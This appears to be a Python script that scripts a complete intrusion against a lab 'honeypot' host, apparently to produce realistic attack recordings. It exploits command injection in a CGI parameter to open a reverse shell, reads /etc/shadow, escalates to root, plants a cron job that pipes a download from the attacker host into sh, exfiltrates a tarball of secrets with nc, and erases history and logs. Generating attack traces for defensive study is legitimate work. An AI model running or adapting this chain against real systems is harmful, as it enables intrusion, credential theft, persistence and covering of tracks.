# SPDX-License-Identifier: Apache-2.0
"""The intruder, key by key: see intruder.py. Usage: attack.py FOLDER_FOR_LOOT"""
import pathlib
import re
import socket
import sys
import urllib.error
import urllib.parse
import urllib.request

import intruder
import terminal
from intruder import WORK, step

LOOT = pathlib.Path(sys.argv[1])
ATTACKER, TARGET = "203.0.113.66", "192.0.2.10"
EXFILTRATION_PORT = 4444
USER_PROMPT = r"www-data@honeypot:[^\n]*\$ $"
ROOT_PROMPT = r"root@honeypot:[^\n]*# $"
CRON_FILE = "/etc/cron.d/sysstat-collect"
CRON_LINE = f"* * * * * root curl -s http://{ATTACKER}:{intruder.TOOLS_PORT}/update | sh"


def scan():
    intruder.scan_ports(TARGET, (21, 22, 23, 25, 80, 443, 3306, 8080))
    pages = []
    for path in ("/", "/admin/", "/phpmyadmin/", "/.git/config", "/cgi-bin/test.cgi",
                 "/cgi-bin/status.cgi"):
        try:
            with urllib.request.urlopen(f"http://{TARGET}{path}", timeout=terminal.TIMEOUT_S) as answer:
                pages.append([path, answer.status])
        except urllib.error.HTTPError as error:
            pages.append([path, error.code])
    step("scan_paths", pages=pages)


def break_in(listener):
    payload = f"127.0.0.1 80; {intruder.command_for_a_shell(ATTACKER)}"
    url = f"http://{TARGET}/cgi-bin/status.cgi?host={urllib.parse.quote(payload, safe='')}"
    sender = socket.create_connection((TARGET, 80), timeout=terminal.TIMEOUT_S)
    source_port = sender.getsockname()[1]
    sender.sendall(f"GET {url.removeprefix('http://' + TARGET)} HTTP/1.1\r\nHost: {TARGET}\r\n"
                   "Connection: close\r\n\r\n".encode())
    connection, peer = listener.accept()
    while sender.recv(65536):
        pass
    sender.close()
    step("exploit", source_port=source_port, url=url, payload=payload)
    step("reverse_shell", peer_port=peer[1])
    return terminal.Terminal(connection)


def look_around(shell):
    shell.type("idd\x7f\r")
    output = shell.expect(USER_PROMPT)
    step("identity", user=re.search(r"uid=\d+\((\S+?)\)", output)[1])
    shell.type("unmae\x7f\x7f\x7fame -a\r")
    shell.expect(USER_PROMPT)
    shell.type("ls -la /root\x15ls -la /var/www\r")
    shell.expect(USER_PROMPT)
    shell.type("cat /etc/pas")
    shell.type("\t", echo="swd")
    shell.type("\r")
    shell.expect(USER_PROMPT)
    intruder.search_setuid(shell, USER_PROMPT)
    shell.type("su -\r")
    shell.expect("Password: $")
    shell.line("hunter2")  # echo is off
    failed = shell.expect(USER_PROMPT)
    step("wrong_password", typed="hunter2", refused="failure" in failed)


def act_as_root(shell, exfiltration):
    shell.type("cat /etc/shaod\x7f\x7fdow\r")
    step("read_shadow", seen="root:$6$" in shell.expect(ROOT_PROMPT))
    shell.type(f"echo '{CRON_LINE}' > {CRON_FILE}\r")
    shell.expect(ROOT_PROMPT)
    step("plant_cron", file=CRON_FILE)
    shell.type("/bin/tar czf loot.tgz /etc/shadow /var/www/html\r")  # "tar" is the tool here
    shell.expect(ROOT_PROMPT)
    shell.type(f"nc -N {ATTACKER} {EXFILTRATION_PORT} < loot.tgz\r")
    receiver, peer = exfiltration.accept()
    received = b"".join(iter(lambda: receiver.recv(65536), b""))
    receiver.close()
    shell.expect(ROOT_PROMPT)
    (LOOT / "loot.tgz").write_bytes(received)
    step("exfiltration", peer_port=peer[1], size_bytes=len(received))
    for command in ("rm -f /root/.bash_history", ": > /var/log/nginx/access.log",
                    f"cd /; rm -rf {WORK}"):
        shell.type(command + "\r")
        shell.expect(ROOT_PROMPT)
    step("remove_traces")


def main():
    server = intruder.ToolServer(ATTACKER, {
        "/rootme.c": (intruder.HERE / "rootme.c").read_bytes(), "/update": b"id\n"})
    with socket.create_server((ATTACKER, intruder.SHELL_PORT)) as listener, \
            socket.create_server((ATTACKER, EXFILTRATION_PORT)) as exfiltration:
        for waiting in (listener, exfiltration):
            waiting.settimeout(terminal.TIMEOUT_S)
        scan()
        shell = break_in(listener)
        intruder.upgrade(shell, USER_PROMPT)
        look_around(shell)
        intruder.become_root(shell, server, ATTACKER, USER_PROMPT, ROOT_PROMPT)
        act_as_root(shell, exfiltration)
        shell.type("exit\r")
        shell.expect(USER_PROMPT)  # of the terminal's shell, the helper has ended
        shell.line("exit")
        shell.expect(USER_PROMPT)  # of the first shell, without a terminal
        shell.line("exit")
        shell.expect_end()
        step("logout", keystrokes=shell.sent)
    # cron looks for new files every minute.
    step("persistence", fetched=server.asked["/update"].wait(timeout=terminal.TIMEOUT_S))


if __name__ == "__main__":
    main()
